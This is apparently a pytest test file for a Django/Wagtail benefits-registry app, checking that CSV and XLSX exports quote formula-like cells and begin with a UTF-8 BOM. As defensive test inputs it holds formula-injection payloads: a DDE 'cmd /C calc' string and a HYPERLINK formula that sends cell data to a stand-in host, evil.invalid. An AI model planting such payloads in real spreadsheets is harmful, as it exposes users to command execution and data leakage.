import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.urls import reports as wagtail_reports
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page

from dashboards.models import DashboardPage
from schemes.bulk import individuals
from schemes.bulk.files import open_table
from schemes.bulk.models import Upload
from schemes.plans.models import BenefitPlan
from sites.spreadsheets import (
    FORMULA_PREFIXES,
    SafeSpreadsheetExportMixin,
    csv_response,
    safe_cell,
    streaming_csv_response,
    unescaped_cell,
)
from tests.factories import IndividualFactory
from tests.schemes.payments import conftest as payments


@pytest.mark.parametrize(
    "text",
    [
        "=SUM(A1:A2)",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://x","y")',
        "-",
        "+",
        "=",
        "@",
        "\tindented",
        "\rreturn",
    ],
)
def test_formula_prefixes_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "Amina",
        "12",
        "a=b",
        "x+1",
        "e-mail",
        "user@example.org",
        " =1",
        "",
        "'already quoted",
        "١٢٣",
    ],
)
def test_plain_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["=SUM(A1:A2)", "+255700111223", "-2+3", "@SUM(1)", "\t=1", "Amina", "e-mail",
                                  "O'Brien", ""])
def test_a_cell_read_back_is_the_text_it_was_written_from(text):
    assert unescaped_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value", [0, 42, -42, Decimal("-1234.50"), Decimal("0.00"), Decimal("10"), True, False, None]
)
def test_numbers_booleans_and_none_are_returned_unchanged(value):
    result = safe_cell(value)
    assert result == value
    assert type(result) is type(value)


@pytest.mark.parametrize("value", [1.5, -2.25, 0.0])
def test_floats_stay_numbers(value):
    # "Amounts stay numeric": a float (an average, a ratio) must not become text ("'-2.25").
    result = safe_cell(value)
    assert result == value
    assert type(result) is float


def test_decimal_keeps_its_scale():
    assert str(safe_cell(Decimal("-5.10"))) == "-5.10"


def test_other_objects_become_safe_text():
    class Name:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Name()) == "'=cmd|' /C calc'!A0"
    assert safe_cell(datetime.date(2024, 1, 2)) == "2024-01-02"


class _WagtailExport:
    def preprocess_field_value(self, field, value, export_format):
        return value


class _SafeExport(SafeSpreadsheetExportMixin, _WagtailExport):
    pass


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_mixin_escapes_text_and_keeps_typed_values(export_format, settings):
    settings.TIME_ZONE = "Africa/Nairobi"
    view = _SafeExport()
    cell = lambda value: view.preprocess_field_value("f", value, export_format)  # noqa: E731

    assert cell("=1+2") == "'=1+2"
    assert cell("-40") == "'-40"
    assert cell("Amina") == "Amina"
    assert cell(Decimal("-40.00")) == Decimal("-40.00")
    assert cell(-40) == -40
    assert cell(None) is None
    assert cell(datetime.date(2024, 1, 2)) == datetime.date(2024, 1, 2)
    moment = datetime.datetime(2024, 1, 2, 3, 4, 5, 929340, tzinfo=datetime.UTC)
    local = datetime.datetime(2024, 1, 2, 6, 4, 5)  # Africa/Nairobi is UTC+3
    assert cell(moment) == (local if export_format == "xlsx" else "2024-01-02 06:04:05")
    assert cell(True) == (True if export_format == "xlsx" else "Yes")
    assert cell(False) == (False if export_format == "xlsx" else "No")


class _OutOfOrderExport(SafeSpreadsheetExportMixin, SpreadsheetExportMixin):
    """An export whose rows are built in another order than its columns, one column missing."""

    list_export = ["name", "rows", "errors", "problem"]

    def get_heading(self, queryset, field):
        return field.capitalize()

    def to_row_dict(self, item):
        return {"problem": item["problem"], "name": item["name"], "rows": item["rows"]}


def test_an_xlsx_row_follows_the_export_columns_as_the_csv_row_does_whatever_the_row_dicts_order():
    items = [{"name": "people.csv", "rows": 6, "problem": ""}, {"name": "=bad.csv", "rows": 0, "problem": "-empty"}]
    view = _OutOfOrderExport()
    output = io.BytesIO()
    view.write_xlsx(items, output)
    sheet = openpyxl.load_workbook(io.BytesIO(output.getvalue()), read_only=True).active
    in_xlsx = [list(row) for row in sheet.iter_rows(values_only=True)]
    in_csv = list(csv.reader(io.StringIO("".join(line.decode() for line in view.stream_csv(items)))))

    assert in_xlsx == [["Name", "Rows", "Errors", "Problem"], ["people.csv", 6, None, None],
                       ["'=bad.csv", 0, None, "'-empty"]]  # formula-like text still quoted
    assert in_csv == [[str(cell) if cell is not None else "" for cell in row] for row in in_xlsx]


def test_export_mixin_keeps_floats_numeric():
    # Averages and ratios come back from the database as float; a negative one must stay a number.
    view = _SafeExport()
    assert view.preprocess_field_value("f", -0.5, "xlsx") == -0.5
    assert view.preprocess_field_value("f", 2.75, "csv") == 2.75


# --- the BOM: every CSV a person downloads starts with it (Excel reads it as UTF-8), the provider
# export does not --------------------------------------------------------------------------------

BOM = b"\xef\xbb\xbf"
NAMES = ["Zoë", "Nakuru–Mwangi", "علي", "Ng'ang'a Wanjikũ"]

# The payments world (tests/schemes/payments): an approved payroll to export, people to chart.
accountant, benefit_plan, checkers, cycle, cycles, payment_plan, payroll_workflow, people, approved_payroll = (
    payments.accountant, payments.benefit_plan, payments.checkers, payments.cycle, payments.cycles,
    payments.payment_plan, payments.payroll_workflow, payments.people, payments.approved_payroll)


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def body(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_bom_once(raw):
    assert raw.startswith(BOM) and not raw[len(BOM):].startswith(BOM), raw[:12]


@pytest.fixture
def empty_cache():
    # Dashboard figures are cached per metric and scope: this test's numbers, not another's.
    cache.clear()
    yield
    cache.clear()


def test_csv_response_writes_the_bom_once_then_the_text_and_more_rows():
    response = csv_response("Zoë's file.csv", "Name\r\nZoë\r\n")
    csv.writer(response).writerow(["Nakuru–Mwangi"])

    assert response.content == BOM + "Name\r\nZoë\r\nNakuru–Mwangi\r\n".encode()
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''Zo%C3%AB%27s%20file.csv"


def test_streaming_csv_response_sends_the_bom_before_reading_a_row():
    read = []

    def rows():
        read.append(True)
        yield "Zoë\r\n".encode()

    response = streaming_csv_response(rows(), "people.csv")
    chunks = iter(response.streaming_content)

    assert next(chunks) == BOM and read == []  # nothing read, nothing joined
    assert list(chunks) == ["Zoë\r\n".encode()]
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", ["registry_individual:index", "registry_household:index",
                                      "plans_beneficiary:index", "bulk_upload:index",
                                      "dashboards_reports:upload_history", "mizani_site_history"])
def test_every_list_export_streams_the_bom_first(url_name, geo, superuser):
    """Wagtail's CSV writer, ours (ScopedIndexView) and the audit trail's: the BOM is a chunk of its
    own, ahead of the rows, which still stream."""
    response = client_for(superuser).get(reverse(url_name), {"export": "csv"})
    chunks = iter(response.streaming_content)

    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert next(chunks) == BOM
    assert not b"".join(chunks).startswith(BOM)


@pytest.mark.django_db
def test_a_list_export_re_imports_with_its_names_intact(geo, national_clerk, tmp_path):
    for name in NAMES:
        IndividualFactory(first_name=name, last_name=name, location=geo.village_a)
    raw = body(client_for(national_clerk).get(reverse("registry_individual:index"), {"export": "csv"}))
    assert_bom_once(raw)
    path = tmp_path / "individuals.csv"
    path.write_bytes(raw)

    table = open_table(path, individuals.columns(), original_name="individuals.csv")
    rows = [cells for _number, cells, _problem in table.rows()]

    assert table.encoding == "utf-8-sig" and table.headers[0] == "ID"
    first, last = table.mapping["first_name"], table.mapping["last_name"]
    assert sorted((row[first], row[last]) for row in rows) == sorted((name, name) for name in NAMES)


@pytest.mark.django_db
def test_a_dashboard_figure_csv_starts_with_the_bom(benefit_plan, people, superuser, empty_cache):
    BenefitPlan.objects.filter(pk=benefit_plan.pk).update(name="Ruzuku ya Zoë – Nakuru")
    page = DashboardPage.objects.get(slug="programme-overview")
    by_plan = next(child for child in page.body
                   if child.block_type == "bar" and child.value["metric"] == "beneficiaries_by_plan")

    raw = body(client_for(superuser).get(reverse("dashboards:data", kwargs={"page_id": page.pk,
                                                                          "block_id": by_plan.id})))

    assert_bom_once(raw)
    assert "Ruzuku ya Zoë – Nakuru" in raw.decode("utf-8-sig")


@pytest.mark.django_db
def test_a_report_csv_starts_with_the_bom(benefit_plan, people, superuser, empty_cache):
    BenefitPlan.objects.filter(pk=benefit_plan.pk).update(name="Ruzuku ya Zoë – Nakuru")

    raw = body(client_for(superuser).get(reverse("dashboards_reports:beneficiaries_by_plan"), {"export": "csv"}))

    assert_bom_once(raw)
    assert "Ruzuku ya Zoë – Nakuru" in raw.decode("utf-8-sig")


@pytest.mark.django_db
def test_the_bulk_template_and_error_file_start_with_the_bom(geo, member_roles, national_clerk,
                                                             django_capture_on_commit_callbacks):
    client = client_for(national_clerk)
    assert_bom_once(body(client.get(reverse("bulk_upload:template"), {"kind": "INDIVIDUALS"})))

    file = SimpleUploadedFile("people.csv", "first_name,last_name,dob,sex\nZoë,Nakuru–Mwangi,not a date,F\n".encode(),
                              content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("bulk_upload:new"), {"kind": "INDIVIDUALS", "file": file})
    upload = Upload.objects.get()
    raw = b"".join(client.get(reverse("bulk_upload:errors", args=[upload.pk])).streaming_content)

    assert_bom_once(raw)
    assert "Zoë,Nakuru–Mwangi" in raw.decode("utf-8-sig")


@pytest.mark.django_db
def test_the_payment_provider_export_starts_with_the_bom(approved_payroll, accountant):
    """The openIMIS reconciliation file is downloaded by a person and opened in a spreadsheet before it
    goes to the provider (whose systems read the lines from the provider API): with the BOM."""
    response = client_for(accountant).get(reverse("payments_payroll:export_csv", args=[approved_payroll.pk]))
    raw = b"".join(response.streaming_content)

    assert response.status_code == 200
    assert_bom_once(raw)
    assert raw[len(BOM):].startswith(b"Payroll Name,")


FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'


@pytest.fixture
def formula_page(superuser):
    """A published page titled with a formula, in moderation and locked: listed by every Wagtail report
    that lists pages."""
    page = Page.objects.get(depth=1).add_child(instance=Page(title=FORMULA_TITLE, slug="formula"))
    page.save_revision(user=superuser).publish(user=superuser)
    page.get_workflow().start(page, superuser)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=superuser, locked_at=timezone.now())
    return page


def exported_cells(response, export_format):
    """The text cells of a CSV (which must start with the BOM) or XLSX export."""
    if export_format == "csv":
        raw = body(response)
        assert_bom_once(raw)
        return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, str)]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("url_name", [pattern.name for pattern in wagtail_reports.urlpatterns])
def test_wagtails_own_reports_export_formula_safe_with_the_bom(url_name, export_format, formula_page, superuser):
    """Every URL Wagtail declares for its reports: the index and the results its filters reload both
    serve ?export= (the results URLs once went to Wagtail's writer: formulas as typed, no BOM)."""
    response = client_for(superuser).get(reverse(f"wagtailadmin_reports:{url_name}"), {"export": export_format})
    cells = exported_cells(response, export_format)

    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    if not url_name.startswith("page_types_usage"):  # lists page types, not pages
        assert "'" + FORMULA_TITLE in cells
